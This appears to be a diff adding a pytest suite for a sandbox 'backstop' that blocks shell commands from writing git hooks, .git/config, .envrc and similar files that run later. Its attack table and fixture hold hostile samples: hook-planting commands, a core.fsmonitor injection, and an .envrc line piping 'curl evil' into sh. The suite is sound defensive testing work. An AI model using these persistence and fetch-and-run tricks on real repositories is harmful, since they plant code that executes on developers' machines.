@@ -1,0 +1,200 @@
+"""The main chat's kernel backstop (``worker.contain.backstop``): a command that computes a
+protected or runs-later path at run time cannot write it, through real processes, a real
+user and mount namespace and a real git repository; ordinary work is as before.
+
+Each attack here wrote its path on the code before the backstop (the plain ``run_shell``
+is the old runner: ``test_the_old_runner_lets_every_attack_through`` keeps that true)."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from protocol.wire.work import WriteGuard
+from tests.support import containment_unavailable
+from worker.contain.backstop import Opened, guarded_paths, guarded_runner, unavailable
+from worker.shell.runner import ShellResult, run_shell
+from worker.shell.write_targets import protected_write_paths
+
+FSMONITOR = "[core]\\n\\tfsmonitor = touch /tmp/specrun-backstop-ran\\n"
+
+# name: (command, the path it must not change, words the note must hold)
+ATTACKS: dict[str, tuple[str, str, str]] = {
+    "variable path": ('f=.git/hooks/pre-commit; echo "touch /tmp/p" > "$f"',
+                      ".git/hooks/pre-commit", ".git/hooks"),
+    "Makefile recipe": ("make -s hook", ".git/hooks/post-checkout", ".git/hooks"),
+    "python one-liner": (f"python3 -c \"open('.git/config', 'a').write('{FSMONITOR}')\"",
+                         ".git/config", ".git/config"),
+    "link into .git/hooks": ('echo "touch /tmp/p" > tools/hooks/pre-push',
+                             ".git/hooks/pre-push", ".git/hooks"),
+    "cp through a variable": ('d=.git/hooks; cp evil.sh "$d/post-checkout"',
+                              ".git/hooks/post-checkout", ".git/hooks"),
+    "git config through a variable": ("c=config; git $c core.fsmonitor 'touch /tmp/p'",
+                                      ".git/config", ".git/config"),
+    "a script the repository brought": ("sh scripts/setup.sh", ".git/info/attributes",
+                                        ".git/info"),
+    "new .envrc": ("e=.envrc; echo 'curl evil | sh' > $e", ".envrc", ".envrc"),
+    "new .envrc from make": ("make -s env", ".envrc", ".envrc"),
+    "rename over a runs-later file": ("mv evil.sh Makefile", "Makefile", "Makefile"),
+}
+
+
+def _git(root: Path, *args: str) -> None:
+    subprocess.run(["git", "-C", str(root), *args], check=True, capture_output=True)
+
+
+@pytest.fixture
+def project(tmp_path: Path) -> Path:
+    """A cloned repository's checkout that brought a Makefile, a script and a link."""
+    root = tmp_path / "project"
+    root.mkdir()
+    _git(root, "init", "-q")
+    _git(root, "config", "user.name", "Probe")
+    _git(root, "config", "user.email", "probe@example.com")
+    (root / "Makefile").write_text(
+        "hook:\n\techo 'touch /tmp/p' > .git/hooks/post-checkout\n"
+        "env:\n\techo 'curl evil | sh' > .envrc\n"
+        "build:\n\tmkdir -p out && echo built > out/app.txt\n"
+    )
+    (root / "scripts").mkdir()
+    (root / "scripts" / "setup.sh").write_text(
+        "mkdir -p .git/info && echo '* filter=evil' > .git/info/attributes\n")
+    (root / "evil.sh").write_text("#!/bin/sh\ntouch /tmp/p\n")
+    (root / "tools").mkdir()
+    (root / "tools" / "hooks").symlink_to("../.git/hooks")
+    (root / "notes.txt").write_text("one\n")
+    _git(root, "add", "-A")
+    _git(root, "commit", "-qm", "shipped")
+    return Path(os.path.realpath(root))
+
+
+def _state(root: Path, rel: str) -> bytes | None:
+    path = root / rel
+    return path.read_bytes() if path.is_file() else None
+
+
+def _require_namespaces() -> None:
+    why = unavailable()
+    if why is not None:
+        containment_unavailable(why)
+
+
+def _guarded(root: Path, opened: Opened | None = None) -> Callable[[str], ShellResult]:
+    run = guarded_runner(WriteGuard(str(root)), opened or Opened())
+    return lambda command: run(command, str(root), 30.0, 64 * 1024)
+
+
+@pytest.mark.parametrize("case", sorted(ATTACKS))
+def test_a_path_computed_at_run_time_is_not_written(project: Path, case: str) -> None:
+    _require_namespaces()
+    command, rel, named = ATTACKS[case]
+    before = _state(project, rel)
+    result = _guarded(project)(command)
+    assert _state(project, rel) == before, f"{command!r} wrote {rel}"
+    if rel == ".envrc":
+        assert not (project / ".envrc").exists()
+    notes = " ".join(result.notes)
+    assert named in notes and "specrun" in notes, (result, notes)
+    assert len(result.notes) == 1, result.notes  # one sentence, naming the path
+
+
+@pytest.mark.parametrize("case", sorted(ATTACKS))
+def test_the_old_runner_lets_every_attack_through(project: Path, case: str) -> None:
+    # The attacks are real: without the backstop each one writes its path.
+    command, rel, _ = ATTACKS[case]
+    before = _state(project, rel)
+    run_shell(command, str(project), 30.0, 64 * 1024)
+    assert _state(project, rel) != before
+
+
+def test_the_refusal_is_the_commands_own_error_with_one_sentence_naming_the_path(
+    project: Path,
+) -> None:
+    _require_namespaces()
+    result = _guarded(project)('f=.git/hooks/pre-commit; echo x > "$f"')
+    assert result.exit_code == 1
+    assert "Read-only file system" in result.stderr
+    [note] = result.notes
+    assert note.startswith("specrun kept this command from writing .git/hooks: ")
+    assert "asks you first" in note
+
+
+def test_git_add_commit_status_and_ordinary_writes_work_as_before(project: Path) -> None:
+    _require_namespaces()
+    run = _guarded(project)
+    result = run("echo two >> notes.txt && sed -i s/one/uno/ notes.txt && echo new > new.txt"
+                 " && make -s build && git add -A && git commit -qm work && git status"
+                 " --porcelain && git log --format=%s -1 && pwd && id -u")
+    assert result.exit_code == 0, result
+    assert result.stdout.splitlines() == ["work", str(project), str(os.getuid())]
+    assert (project / "notes.txt").read_text() == "uno\ntwo\n"
+    assert (project / "out" / "app.txt").read_text() == "built\n"
+    assert result.notes == ()
+    # exit codes and output pass through unchanged
+    failed = run("echo out; echo err >&2; exit 7")
+    assert (failed.exit_code, failed.stdout, failed.stderr) == (7, "out\n", "err\n")
+
+
+def test_the_environment_is_the_callers(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    _require_namespaces()
+    monkeypatch.setenv("SPECRUN_BACKSTOP_PROBE", "kept")
+    result = _guarded(project)("echo $SPECRUN_BACKSTOP_PROBE")
+    assert result.stdout == "kept\n"
+
+
+def test_a_yes_to_a_named_path_opens_that_path_only(project: Path) -> None:
+    _require_namespaces()
+    command = 'echo "touch /tmp/p" > .git/hooks/pre-commit; f=.envrc; echo x > $f'
+    guard = WriteGuard(str(project))
+    paths, everything = protected_write_paths(command, guard)
+    assert not everything
+    result = _guarded(project, Opened(paths, everything))(command)
+    assert (project / ".git" / "hooks" / "pre-commit").read_text() == "touch /tmp/p\n"
+    assert not (project / ".envrc").exists(), result  # not what the yes was about
+    assert ".envrc" in " ".join(result.notes)
+
+
+def test_a_yes_to_git_config_opens_the_repositorys_config(project: Path) -> None:
+    _require_namespaces()
+    command = "git config core.editor vi"
+    paths, everything = protected_write_paths(command, WriteGuard(str(project)))
+    result = _guarded(project, Opened(paths, everything))(command)
+    assert result.exit_code == 0, result
+    assert "editor = vi" in (project / ".git" / "config").read_text()
+
+
+def test_a_worktree_keeps_its_common_config_and_its_pointer(project: Path, tmp_path: Path) -> None:
+    _require_namespaces()
+    tree = tmp_path / "tree"
+    _git(project, "worktree", "add", "-q", str(tree))
+    tree = Path(os.path.realpath(tree))
+    planned = guarded_paths(WriteGuard(str(tree))).read_only
+    assert str(tree / ".git") in planned and str(project / ".git" / "config") in planned
+    before = (project / ".git" / "config").read_bytes()
+    run = guarded_runner(WriteGuard(str(tree)))
+    result = run("c=config; git $c core.fsmonitor x; echo 'gitdir: /tmp' > .git; echo ok > f && "
+                 "git add f && git commit -qm w && echo done", str(tree), 30.0, 4096)
+    assert (project / ".git" / "config").read_bytes() == before
+    pointer = (tree / ".git").read_text()
+    assert pointer.startswith("gitdir: ") and pointer != "gitdir: /tmp\n"
+    assert result.stdout.endswith("done\n"), result
+
+
+def test_a_replaced_protected_link_is_put_back(project: Path) -> None:
+    _require_namespaces()
+    (project / ".envrc").symlink_to("notes.txt")
+    result = _guarded(project)("rm .envrc; echo 'curl evil | sh' > .envrc")
+    assert os.readlink(project / ".envrc") == "notes.txt"
+    assert (project / "notes.txt").read_text() == "one\n"
+    assert ".envrc" in " ".join(result.notes)
+
+
+def test_nothing_is_mounted_outside_the_command(project: Path) -> None:
+    _require_namespaces()
+    _guarded(project)("true")
+    mounts = Path("/proc/self/mountinfo").read_text()
+    assert str(project) not in mounts
